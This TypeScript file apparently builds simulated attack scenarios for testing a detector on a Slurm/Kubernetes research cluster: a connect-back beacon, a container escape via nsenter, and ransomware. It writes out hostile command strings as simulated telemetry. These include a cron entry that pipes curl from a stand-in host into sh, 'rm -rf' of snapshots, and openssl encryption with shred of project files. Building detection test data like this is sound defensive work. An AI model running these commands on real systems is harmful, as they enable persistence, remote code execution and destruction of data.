/** Attacks that run inside jobs: connecting back, breaking out of a container, encrypting what can be reached. Knows no detector. */
import type { Process } from "../host.ts";
import { talk } from "../life/network.ts";
import { command } from "../life/sessions.ts";
import { execLine, exitLine, namespaceEntered } from "../records/tetragon.ts";
import { serviceNamed } from "../site.ts";
import { hour, minute, second } from "../stamps.ts";
import { lair, misuse, quiet, type Scenario, victim } from "./scenario.ts";

/** A program just unpacked under /tmp calls home and takes orders. */
const connectBack = (udp: boolean): Scenario => ({
  name: udp ? "connect_back_udp" : "connect_back_tcp",
  summary: `a program from /tmp in a job calls home over ${udp ? "UDP" : "TCP"}`,
  expected: {
    alert: true,
    entity: "slurm.job",
    attack: udp ? ["T1095"] : ["T1095", "T1571"],
    about: "A process seconds old, from /tmp, in a job, opens a socket to a public address that nobody used before.",
  },
  *play(world, incident, chance) {
    const user = victim(world, incident, chance);
    const home = lair(incident, chance);
    const port = udp ? 53 : chance.pick([443, 4_444, 8_443, 9_001]);
    const binary = `/tmp/${chance.text(6)}/upd`;
    misuse(
      world,
      incident,
      user,
      {
        name: "pre_process",
        request: { nodes: 1, cores: 4, gpus: 0, memory_gb: 8, lasts: Math.round(chance.between(1, 3) * hour), tasks: 1 },
        program: { binary: "/usr/bin/bash", args: "prepare.sh" },
        load: () => ({ ...quiet, cpu: 0.1 }),
      },
      function* (job) {
        const { host } = job.batch;
        yield world.now + Math.round(chance.between(20, 90) * second);
        command(world, job.batch, "/usr/bin/tar", `xzf lib.tar.gz -C ${binary.slice(0, binary.lastIndexOf("/"))}`, incident);
        yield world.now + 2 * second;
        const agent = job.batch.child({ binary, args: "", start: world.now, cwd: "/tmp" });
        world.emit("tetragon", execLine(agent, world.now), incident);
        yield world.now + Math.round(chance.between(0.3, 2) * second);
        while (world.now < job.ends - 2 * minute) {
          const lasts = udp ? 1 : chance.between(40, 110);
          talk(world, chance, {
            from: host,
            process: agent,
            to: home,
            port,
            lasts,
            sent: chance.between(400, 3_000),
            received: chance.between(200, 2_000),
            silent: true,
            ...(udp ? { udp } : {}),
            incident,
          });
          if (chance.happens(0.2)) yield* orders(agent);
          yield world.now + Math.round(60 * second * chance.between(0.9, 1.1));
        }
        world.emit("tetragon", exitLine(agent, world.now, { signal: "SIGTERM" }), incident);
      },
    );
    function* orders(agent: Process) {
      for (const line of ["/usr/bin/id", "/usr/bin/uname", "/usr/bin/cat"]) {
        yield world.now + second;
        command(world, agent, line, line.endsWith("cat") ? "/etc/hosts" : "-a", incident);
      }
    }
  },
});

const containerEscape: Scenario = {
  name: "container_escape",
  summary: "a privileged pod enters the host's namespaces and leaves a cron job",
  expected: {
    alert: true,
    entity: "host",
    attack: ["T1611", "T1053.003"],
    about: "nsenter into process 1's namespaces from a pod, then files of the host are written.",
  },
  *play(world, incident, chance) {
    // the service nodes have Kubernetes: portals and data services run there
    const host = world.site.house.portal;
    incident.nodes.add(host.name);
    const container = chance.text(64);
    const pod = { namespace: "notebooks", name: "hub-image-puller", container, image: "registry.containers.example/hub/puller:4" };
    const shim = host.daemon("/usr/bin/containerd-shim-runc-v2", "-namespace k8s.io");
    const shell = shim.child({ binary: "/bin/bash", args: "-i", start: world.now, pod, uid: 0 });
    world.emit("tetragon", execLine(shell, world.now), incident);
    for (const [binary, args] of [
      ["/usr/bin/id", ""],
      ["/usr/bin/mount", ""],
      ["/usr/bin/cat", "/proc/1/cgroup"],
    ] as const) {
      yield world.now + Math.round(chance.exponential(8 * second));
      command(world, shell, binary, args, incident);
    }
    yield world.now + 5 * second;
    const nsenter = shell.child({
      binary: "/usr/bin/nsenter",
      args: "-t 1 -m -u -n -i -p bash",
      start: world.now,
      hostNamespaces: ["uts", "ipc", "mnt", "pid", "net"],
    });
    world.emit("tetragon", execLine(nsenter, world.now), incident);
    world.emit("tetragon", namespaceEntered(nsenter, world.now), incident);
    yield world.now + second;
    const free = nsenter.child({
      binary: "/usr/bin/bash",
      start: world.now,
      hostNamespaces: ["uts", "ipc", "mnt", "pid", "net", "cgroup"],
    });
    world.emit("tetragon", execLine(free, world.now), incident);
    yield world.now + 6 * second;
    command(
      world,
      free,
      "/usr/bin/sh",
      "-c \"echo '* * * * * root curl -fsS http://get.toolbox.example/i | sh' > /etc/cron.d/sync\"",
      incident,
    );
    world.emit("tetragon", exitLine(nsenter, world.now), incident);
  },
};

const ransomware: Scenario = {
  name: "ransomware",
  summary: "a job encrypts the project's files and removes what would bring them back",
  expected: {
    alert: true,
    entity: "slurm.job",
    attack: ["T1486", "T1490"],
    about: "Files of the project are encrypted one after the other, originals shredded, snapshots deleted, a note left.",
  },
  *play(world, incident, chance) {
    const user = victim(world, incident, chance);
    misuse(
      world,
      incident,
      user,
      {
        name: "archive",
        request: { nodes: 1, cores: 32, gpus: 0, memory_gb: 32, lasts: Math.round(chance.between(0.7, 2) * hour), tasks: 1 },
        program: { binary: "/usr/bin/bash", args: "archive.sh" },
        load: () => ({ ...quiet, cpu: 0.7, read: 6e8, write: 6e8, lustre: 6e8 }),
      },
      function* (job) {
        const shell = job.leaders[0]!;
        yield world.now + 10 * second;
        talk(world, chance, {
          from: shell.host,
          process: shell,
          to: serviceNamed("pastebin.notes.example"),
          port: 443,
          lasts: 2,
          sent: 900,
          received: 4_000,
          client: "curl",
          incident,
        });
        command(world, shell, "/usr/bin/rm", "-rf /lustre/projects/shared/.snapshots", incident);
        command(world, shell, "/usr/bin/find", "/lustre/projects/shared -type f -name *.h5", incident);
        const files = chance.whole(200, 600);
        for (let i = 0; i < files; i++) {
          yield world.now + Math.round(chance.exponential(0.6 * second));
          const file = `/lustre/projects/shared/run${String(i).padStart(4, "0")}.h5`;
          command(
            world,
            shell,
            "/usr/bin/openssl",
            `enc -aes-256-cbc -pbkdf2 -in ${file} -out ${file}.locked -pass file:/dev/shm/.k`,
            incident,
          );
          command(world, shell, "/usr/bin/shred", `-u ${file}`, incident);
        }
        command(world, shell, "/usr/bin/tee", "/lustre/projects/shared/README_TO_RESTORE.txt", incident);
      },
    );
  },
};

export const inJobs: readonly Scenario[] = [connectBack(false), connectBack(true), containerEscape, ransomware];
